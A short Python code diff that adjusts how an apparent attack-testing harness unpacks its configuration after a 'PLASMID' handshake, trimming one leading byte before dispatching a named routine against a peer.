@@ -520,7 +520,7 @@ def main() -> None:
     nonce = first_stage.partition('(("')[2].partition('"')[0]
     write_all(("PLASMID 1 %s %d.%d.%d 00\n" % (nonce, *sys.version_info[:3])).encode())
     sizes = read_exactly(8)
-    config = values.unpack(read_exactly(int.from_bytes(sizes[:4], "big")))
+    config = values.unpack(read_exactly(int.from_bytes(sizes[:4], "big"))[1:])
     read_exactly(int.from_bytes(sizes[4:], "big"))
     try:
         globals()[attack](Peer(config["address"], report_path))
